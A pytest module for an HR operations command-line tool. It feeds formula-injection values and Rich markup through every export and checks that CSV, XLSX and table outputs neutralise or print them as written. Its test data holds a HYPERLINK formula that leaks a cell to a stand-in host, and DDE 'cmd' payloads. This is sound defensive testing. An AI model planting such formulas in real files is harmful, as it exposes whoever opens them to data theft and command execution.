"""A hostile tenant through every command that writes CSV/XLSX or prints a table.

Names, 事業部, 部署 and 職種 start with = + - @ (formula injection when the file is
opened in Excel) or carry Rich markup ([/bold], [red]). Every XLSX must hold them
as text cells, every CSV with a leading ', every table as written.
"""

from __future__ import annotations

import csv
import io
import shutil
import unicodedata
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd
import pytest
import yaml
from openpyxl import load_workbook

from conftest import SAMPLE, Cli
from kakeai_ops.jobs.workspace_init import init_workspace
from kakeai_ops.outputs.files import csv_text, json_text, write_table
from kakeai_ops.workspace import Workspace

RISKY = ("=", "+", "-", "@", "\t", "\r")
CAMPAIGN = "exec-1on1-2026h2"
RUN = "hostile-run"
CAMPAIGN_TITLE = "=[/bold]1on1権"
SEED = "=SEED[/bold] 39123.45"
ENTRIES_FILE = "=[red]応募.csv"

DIVISIONS = {
    "営業本部": '=HYPERLINK("mailto:x@x.invalid","営業本部")',
    "開発本部": "+開発本部",
    "製造本部": "-製造本部",
    "管理本部": "@管理本部",
    "マーケティング本部": "[/bold]マーケティング本部",
    "経営企画室": "[red]経営企画室",
}
DEPARTMENTS = {
    "第一営業部": "=第一営業部",
    "基盤技術部": "[red]基盤技術部",
    "人事部": "@人事部",
    "広報部": "-広報部",
    "第一工場": "+第一工場",
    "経理部": "[/bold]経理部",
}
JOB_TYPES = {"営業": "@営業", "エンジニア": "=エンジニア", "企画": "[red]企画", "事務": "-事務"}
NAME_PREFIXES = ["=", "+", "-", "@", "[/bold]", "[red]", ""]
PAYLOAD_NAMES = [
    '=HYPERLINK("https://x.invalid/?leak="&A1,"山田")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "[/bold]山田",
    "[red]x",
]
UNKNOWN_HEADER = "[/備考]"
ADVISORS = {
    "[/bold]営業本部長": {"email": "sales@x.invalid", "scope": [DIVISIONS["営業本部"]]},
    "=開発HRBP": {"email": "dev@x.invalid", "scope": [f"{DIVISIONS['開発本部']}/[red]基盤技術部"]},
}


@dataclass
class Tenant:
    ws: Workspace
    names: dict[str, str] = field(default_factory=dict)  # user id -> hostile name
    pair: tuple[str, str] = ("", "")  # a formed pair whose member's 職種 is markup
    ingest_exits: list[int] = field(default_factory=list)
    ingest_stderr: str = ""
    # What the set-up already printed with --format csv, by command: the same evidence
    # as running it again (what ran after it, entries and a draw, is not in its output).
    csv_printed: dict[tuple[str, ...], str] = field(default_factory=dict)


def _hostile_users(source: Path, target: Path) -> tuple[dict[str, str], dict[str, str]]:
    with source.open(encoding="cp932", newline="") as handle:
        rows = list(csv.reader(handle))
    header, body = rows[0], rows[1:]
    names, job_types = {}, {}
    for i, row in enumerate(body):
        record = dict(zip(header, row, strict=True))
        if i < len(PAYLOAD_NAMES):
            record["氏名"] = PAYLOAD_NAMES[i]
        else:
            record["氏名"] = NAME_PREFIXES[i % len(NAME_PREFIXES)] + record["氏名"]
        record["事業部"] = DIVISIONS.get(record["事業部"], record["事業部"])
        record["部署"] = DEPARTMENTS.get(record["部署"], record["部署"])
        record["職種"] = JOB_TYPES.get(record["職種"], record["職種"])
        record[UNKNOWN_HEADER] = ""
        body[i] = [record[h] for h in [*header, UNKNOWN_HEADER]]
        user_id = unicodedata.normalize("NFKC", record["ユーザーID"]).strip()
        names[user_id], job_types[user_id] = record["氏名"], record["職種"]
    with target.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle, lineterminator="\r\n")
        writer.writerow([*header, UNKNOWN_HEADER])
        writer.writerows(body)
    return names, job_types


def _exports(root: Path, month: str) -> tuple[list[Path], dict[str, str], tuple[str, str]]:
    folder = root / month
    folder.mkdir(parents=True)
    # A file name is data too: `kops status` lists it.
    users = folder / "=[red]users.csv"
    names, job_types = _hostile_users(SAMPLE / month / "users.csv", users)
    shutil.copy(SAMPLE / month / "pairs.csv", folder / "pairs.csv")
    shutil.copy(SAMPLE / month / "meetings.xlsx", folder / "meetings.xlsx")
    pairs = pd.read_csv(
        folder / "pairs.csv", dtype=str, encoding="utf-8-sig", keep_default_na=False
    )
    manager, member, accepted = pairs.columns[0], pairs.columns[1], pairs["承認日"] != ""
    formed = [
        tuple(unicodedata.normalize("NFKC", i).strip() for i in ids)
        for ids in pairs.loc[accepted, [manager, member]].itertuples(index=False)
    ]
    pair = next((m, p) for m, p in formed if job_types[p].startswith("[red]"))
    return [users, folder / "pairs.csv", folder / "meetings.xlsx"], names, pair


def _hostile_survey(target: Path) -> Path:
    source = SAMPLE / "seminar" / "month1-survey.csv"
    frame = pd.read_csv(source, dtype=str, keep_default_na=False, encoding="cp932")
    column = frame.columns[-1]
    frame[column] = [
        (["=1+1 ", "[/bold]", "@", "[red]"][i % 4] + text) if text else text
        for i, text in enumerate(frame[column])
    ]
    frame.to_csv(target, index=False, encoding="utf-8-sig")
    return target


def _enter_and_draw(cli: Cli, base: Path) -> None:
    """Every eligible person enters (by a form whose file name is data too), then a draw."""
    people = list(
        csv.DictReader(
            io.StringIO(cli("campaign", "eligible", CAMPAIGN, "--all", "--format", "csv").stdout)
        )
    )
    ids = [p["user_id"] for p in people if p["eligible"] == "true"]
    ids += [p["user_id"] for p in people if p["eligible"] == "false"][:3]
    with (base / ENTRIES_FILE).open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle, lineterminator="\r\n")
        writer.writerow(["応募日時", "ユーザーID"])
        writer.writerows([["2026/10/01 10:00", i] for i in ids])
    cli("campaign", "entries", CAMPAIGN, str(base / ENTRIES_FILE))
    cli("campaign", "draw", CAMPAIGN, "--winners", "30", "--seed", SEED)


@pytest.fixture(scope="module")
def tenant(tmp_path_factory: pytest.TempPathFactory) -> Tenant:
    base = tmp_path_factory.mktemp("hostile")
    ws = init_workspace(base / "ws")
    config = yaml.load(ws.config_path.read_text(encoding="utf-8"), Loader=yaml.CSafeLoader)
    config["advisors"] = ADVISORS
    config["campaigns"][CAMPAIGN]["title"] = CAMPAIGN_TITLE
    config["seminars"]["month1"].update(
        date="2026-10-28T12:15:00",
        url="https://meet.example/month1",
        recording_url="https://video.example/month1",
    )
    ws.config_path.write_text(
        yaml.dump(config, allow_unicode=True, Dumper=yaml.CSafeDumper), encoding="utf-8"
    )
    cli = Cli(ws)
    october, names, _ = _exports(base / "exports", "2026-10")
    # Checked in its own test; a crash after the snapshot was written must not hide the rest.
    first = cli("ingest", *map(str, october), ok=False)
    listed = pd.read_json(io.StringIO(cli("segment", "--list", "--format", "json").stdout))
    no_pair = listed[listed["stuck_point"] == "no_pair"]["user_id"].astype(str).str.zfill(6)
    cli("mail", "suppress", no_pair.iloc[0], "--reason", "=返信で配信停止[/bold]")
    # One sent, the rest left planned: `mail status RUN` lists them by name.
    cli("mail", "send", "--segment", "no_pair", "--id", RUN, "--yes", "--limit", "1")
    cli("seminar", "invite", "month1", "--yes", env={"KOPS_NOW": "2026-10-21T10:00:00+09:00"})
    cli("seminar", "attendance", "month1", str(SAMPLE / "seminar" / "month1-attendance.csv"))
    cli("seminar", "survey", "month1", str(_hostile_survey(base / "survey.csv")))
    november, names, pair = _exports(base / "exports", "2026-11")
    second = cli("ingest", *map(str, november), ok=False)
    cli("interview", "exclude", next(iter(names)), "--reason", "@辞退[red]")
    report = cli("report", "divisions", "--format", "csv")  # an audit entry
    _enter_and_draw(cli, base)
    printed = {("report", "divisions"): report.stdout}
    return Tenant(ws, names, pair, [first.exit_code, second.exit_code], first.stderr, printed)


@dataclass(frozen=True)
class Command:
    """A command and the outputs it can write: table, csv (stdout), files by suffix;
    ``shows``: a value its table must print as written."""

    args: tuple[str, ...]
    shows: str = ""
    table: bool = True
    csv: bool = True
    files: tuple[str, ...] = (".xlsx", ".csv")
    out: str = "--out"  # the option that names the file written


def _user(tenant: Tenant) -> str:
    return next(uid for uid, name in tenant.names.items() if name.startswith("[/bold]"))


COMMANDS = {
    "segment": Command(("segment", "--by", "division"), files=(".xlsx",)),
    "segment --list": Command(("segment", "--list")),
    "segment --since": Command(("segment", "--since", "2026-10-31"), files=(".xlsx",)),
    "segment --explain": Command(("segment", "--explain", "{user}"), csv=False, files=()),
    "campaign eligible --all": Command(("campaign", "eligible", CAMPAIGN, "--all")),
    "campaign explain": Command(("campaign", "explain", CAMPAIGN, "{user}"), csv=False, files=()),
    "campaign award --dry-run": Command(
        ("campaign", "award", CAMPAIGN, "--dry-run"), csv=False, files=()
    ),
    "campaign milestones": Command(("campaign", "milestones")),
    "interview shortlist": Command(("interview", "shortlist")),
    "interview shortlist --explain": Command(
        ("interview", "shortlist", "--explain", "{manager}", "{member}"),
        shows="[red]企画",
        csv=False,
        files=(),
    ),
    "interview history": Command(("interview", "history"), shows="@辞退[red]", files=()),
    "report divisions": Command(("report", "divisions"), files=(".xlsx",)),
    "report divisions --advisor": Command(
        ("report", "divisions", "--advisor", "[/bold]営業本部長"), files=(".xlsx",)
    ),
    "report divisions --all-advisors": Command(
        ("report", "divisions", "--all-advisors"), table=False, csv=False, files=("/",)
    ),
    "report advisors": Command(("report", "advisors"), files=("/",)),
    "audit": Command(("audit",), files=()),
    "seminar summary": Command(("seminar", "summary", "month1"), csv=False, files=(".xlsx",)),
    # Its CSV: test_hostile_entries_survey_review (answers whose theme's example is a formula).
    "seminar themes": Command(("seminar", "themes"), csv=False, files=()),
    "campaign list": Command(("campaign", "list"), shows=CAMPAIGN_TITLE, files=()),
    "campaign draw --entrants": Command(("campaign", "draw", CAMPAIGN, "--entrants"), files=()),
    "campaign draw --redraw": Command(
        ("campaign", "draw", CAMPAIGN, "-n", "30", "--seed", SEED, "--redraw", "--reason", "@再"),
        shows=CAMPAIGN_TITLE,
        files=(),
    ),
    "review": Command(
        ("review", "--out", "{deck}"), table=False, csv=False, files=(".xlsx",), out="--xlsx"
    ),
    "mail status": Command(("mail", "status", RUN)),
    # The person on the suppression list (a no_pair named by a formula) is left out; the
    # table is people_table's, whose markup the commands above check.
    "mail plan --left-out": Command(
        ("mail", "plan", "--segment", "no_pair", "--left-out"), table=False, files=()
    ),
    "mail suppressed": Command(("mail", "suppressed"), shows="=返信で配信停止[/bold]", files=()),
    "status": Command(("status",), shows="=[red]users.csv", files=()),
}


def _args(command: Command, tenant: Tenant, folder: Path | None = None) -> list[str]:
    fill = {"{user}": _user(tenant), "{manager}": tenant.pair[0], "{member}": tenant.pair[1]}
    fill["{deck}"] = str((folder or tenant.ws.root) / "deck.pptx")
    return [fill.get(a, a) for a in command.args]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_csv_neutralised(text: str) -> None:
    fields = [f for row in csv.reader(io.StringIO(text)) for f in row]
    risky = [f for f in fields if f.startswith(RISKY) and not _is_number(f)]
    assert not risky, f"CSV cells that Excel would run as formulas: {risky[:5]}"
    assert any(f[:1] == "'" and f[1:].startswith(RISKY) for f in fields), "no hostile value"


def assert_xlsx_neutralised(path: Path) -> None:
    book = load_workbook(path)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert not formulas, f"formula cells in {path.name}: {formulas[:5]}"
    risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(RISKY)]
    assert risky, f"no hostile value reached {path.name}"
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)
    # Names stay readable: the cell holds the text as the export had it, no added quote.
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith("'")]


@pytest.mark.parametrize("name", [n for n, c in COMMANDS.items() if c.table])
def test_tables_print_markup_as_written(tenant: Tenant, name: str) -> None:
    command = COMMANDS[name]
    result = Cli(tenant.ws)(*_args(command, tenant))
    # Rich would have swallowed [red] as a style and crashed on the unmatched [/bold].
    assert "[/bold]" in result.stdout or "[red]" in result.stdout, result.stdout[:2000]
    assert command.shows in result.stdout


@pytest.mark.parametrize("name", [n for n, c in COMMANDS.items() if c.csv])
def test_csv_on_stdout_is_neutralised(tenant: Tenant, name: str) -> None:
    args = _args(COMMANDS[name], tenant)
    printed = tenant.csv_printed.get(tuple(args))
    if printed is None:
        printed = Cli(tenant.ws)(*args, "--format", "csv").stdout
    assert_csv_neutralised(printed)


@pytest.mark.parametrize(
    "name, suffix", [(n, s) for n, c in COMMANDS.items() for s in c.files], ids=str
)
def test_files_are_neutralised(tenant: Tenant, name: str, suffix: str, tmp_path: Path) -> None:
    target = tmp_path / "out" if suffix == "/" else tmp_path / f"out{suffix}"
    command = COMMANDS[name]
    Cli(tenant.ws)(*_args(command, tenant, tmp_path), command.out, str(target))
    written = sorted(target.iterdir()) if suffix == "/" else [target]
    assert written
    for path in written:
        if path.suffix == ".xlsx":
            assert_xlsx_neutralised(path)
        else:
            raw = path.read_bytes()
            assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
            assert_csv_neutralised(raw.decode("utf-8-sig"))


def test_json_is_left_as_data(tenant: Tenant) -> None:
    listed = pd.read_json(
        io.StringIO(Cli(tenant.ws)("segment", "--list", "--format", "json").stdout),
        dtype={"user_id": str},
    )
    assert set(PAYLOAD_NAMES) <= set(listed["name"]) <= set(tenant.names.values())
    assert not listed["name"].str.startswith("'").any()


def test_unknown_markup_header_only_warns(tenant: Tenant) -> None:
    assert tenant.ingest_exits == [0, 0]
    assert f"=[red]users.csv: ignored column(s): 役職, {UNKNOWN_HEADER}" in tenant.ingest_stderr


def test_error_messages_print_data_as_written(tenant: Tenant) -> None:
    result = Cli(tenant.ws)("segment", "--division", "[/bold]nowhere", ok=False)
    assert result.exit_code == 1
    assert "[/bold]nowhere" in result.stderr and "[/bold]マーケティング本部" in result.stderr
    assert "Internal error" not in result.stderr


# The shared writer itself, for what a tenant cannot carry through ingest (tab, CR)
# and for numbers, which must stay numbers.
FRAME = pd.DataFrame(
    {
        "user_id": ["=0001", "0002", "0003", "0004", "0005", "0006"],
        "name": ["\tタブ", "\r改行", "=1+1", "@メンション", "普通 太郎", "-"],
        "change": [-0.25, 1.5, -3.0, 0.5, 2.25, -1.0],
    }
)


def test_shared_writer_csv(tmp_path: Path) -> None:
    written = write_table(FRAME, tmp_path / "t.csv")
    rows = list(csv.reader(io.StringIO(written.read_bytes().decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == ["'=0001", "0002", "0003", "0004", "0005", "0006"]
    assert [r[1] for r in rows[1:]] == [
        "'\tタブ",
        "'\r改行",
        "'=1+1",
        "'@メンション",
        "普通 太郎",
        "'-",
    ]
    # As the workbook shows them (0.0): a tie away from zero, as Excel rounds.
    assert [r[2] for r in rows[1:]] == ["-0.3", "1.5", "-3.0", "0.5", "2.3", "-1.0"]
    assert csv_text(FRAME).splitlines()[1].startswith("'=0001")


def test_shared_writer_xlsx(tmp_path: Path) -> None:
    sheet = load_workbook(write_table(FRAME, tmp_path / "t.xlsx")).active
    names = [c for (c,) in sheet.iter_rows(min_row=2, min_col=2, max_col=2)]
    assert [c.value for c in names] == list(FRAME["name"])
    assert all(c.data_type == "s" for c in names)
    assert [c.quotePrefix for c in names] == [True, True, True, True, False, True]
    ids = [c for (c,) in sheet.iter_rows(min_row=2, min_col=1, max_col=1)]
    assert ids[0].value == "=0001" and ids[0].data_type == "s" and ids[0].quotePrefix
    changes = [c.value for (c,) in sheet.iter_rows(min_row=2, min_col=3, max_col=3)]
    assert changes == [-0.25, 1.5, -3.0, 0.5, 2.25, -1.0]


def test_json_text_is_unchanged() -> None:
    assert '"=1+1"' in json_text(FRAME) and "'" not in json_text(FRAME)
